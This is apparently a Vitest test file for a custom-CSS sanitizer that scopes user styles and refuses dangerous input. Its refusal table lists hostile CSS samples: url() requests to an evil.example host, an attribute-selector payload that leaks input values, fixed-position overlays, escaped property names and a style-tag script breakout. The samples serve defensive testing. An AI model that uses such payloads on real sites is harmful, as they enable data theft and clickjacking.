import { describe, expect, test } from 'vitest';
import { checkCss } from './custom-css.ts';

const faultOf = (text: string) => {
  const result = checkCss(text);
  return 'fault' in result ? result.fault : null;
};
const cssOf = (text: string) => {
  const result = checkCss(text);
  return 'css' in result ? result.css : null;
};

test('styles are kept, and reach header, page and footer alone', () => {
  expect(
    cssOf('main { --ink: #222 }\n.card-title a:hover { color: #a00; position: relative; z-index: 2 }'),
  ).toBe(
    '@media screen{@scope (body) to (:scope>:not(.header-parts,.site-header,site-menu,main,.site-footer)){main{--ink:#222}.card-title a:hover{color:#a00;z-index:2;position:relative}}}',
  );
  expect(cssOf('  /* nothing yet */ ')).toBe('');
});

test('rules may be nested', () => {
  expect(faultOf('main { .card { &:hover { color: red } & + & { margin: 0 } } }')).toBeNull();
});

test('what cannot be read is said with its line', () => {
  expect(faultOf('a { color: red }\n\nb { color: blue }}')).toMatch(
    /^Line 3: these styles could not be read/,
  );
  expect(faultOf('a {\n  color: red;\n} } body {')).toMatch(/^Line 3:/);
});

describe('refused', () => {
  test.each([
    ['an import', 'a{color:red}\n@import "https://evil.example/x.css";', /@import/],
    ['a font from elsewhere', '@font-face{font-family:a;src:url(https://evil.example/a)}', /@font-face/],
    ['a namespace', '@namespace url(https://evil.example)', /Line 1:/],
    ['a registered property', '@property --ink{syntax:"*";inherits:false}', /@property/],
    ['the window itself', '\n:scope{display:none}', /^Line 2: write main/],
    ['the window itself, nested', '@media screen{&{display:none}}', /write main/],
    ['the window itself, in a list', ':is(&,a){display:none}', /write main/],
    ['a scope of its own', '@scope (html){:scope{display:none}}', /@scope/],
    ['rules for paper', '@page{margin:0}', /@page/],
    ['rules nobody knows', '@foo bar;', /@foo/],
    ['an animation of ours', '@keyframes spin{to{opacity:0}}', /own-spin/],
    ['a fixed place', '\na{position:fixed}', /^Line 2: position/],
    ['a fixed place, escaped', String.raw`a{\70osition:FIXED}`, /position/],
    ['a sticky place', 'a{position:sticky}', /position/],
    ['a place by variable', 'a{--p:fixed;position:var(--p)}', /position/],
    ['a place that comes with an animation', '@keyframes own-x{to{position:fixed}}', /position/],
    ['a place in a nested rule', '.a{@media print{& b{position:fixed!important}}}', /position/],
    ['a height above all', 'a{z-index:2147483647}', /z-index/],
    ['a height by variable', 'a{z-index:var(--z)}', /z-index/],
    ['a height by arithmetic', 'a{z-index:calc(9999*9)}', /z-index/],
    ['a picture from elsewhere', 'a{background:url(https://evil.example/a.png)}', /evil\.example/],
    ['a picture without a scheme', 'a{background:url(//evil.example/a.png)}', /evil\.example/],
    ['a picture from elsewhere, escaped', String.raw`a{background:\75rl("https://evil.example")}`, /url\(/],
    ['a way out of the library', 'a{background:url(/media/../admin/log-out)}', /url\(/],
    ['a page as a picture', 'a{background:url(/logout)}', /url\(/],
    ['a document as a picture', 'a{background:url(data:text/html,x)}', /url\(/],
    ['a set of pictures', 'a{background:image-set("https://evil.example/a.png" 1x)}', /image-set/],
    ['a set in a variable', 'a{--x:-webkit-image-set("https://evil.example/a.png" 1x)}', /image-set/],
    ['a picture in a variable', 'a{--x:url(https://evil.example)}', /url\(/],
    ['a source', 'a{--x:src("https://evil.example")}', /src\(/],
    ['a cursor from elsewhere', 'a{cursor:url(https://evil.example),auto}', /url\(/],
    ['a letter that tells of the page', 'input[value^=a]{background:url(https://evil.example/a)}', /url\(/],
  ])('%s', (_name, text, expected) => {
    expect(faultOf(text)).toMatch(expected);
  });
});

test.each(['a::after{content:"</style><script>alert(1)</script>"}', 'a::after{content:"<!--"}'])(
  'no text ends the element it stands in: %s',
  (text) => {
    expect(cssOf(text)).not.toMatch(/<[/!]/);
    expect(cssOf(text)).toContain(String.raw`\3c `);
  },
);

test('pictures of the library and small ones in the text are taken', () => {
  for (const address of ['/media/image/12/a.webp', '"data:image/svg+xml,%3Csvg/%3E"'])
    expect(faultOf(`a{background:url(${address})}`)).toBeNull();
});
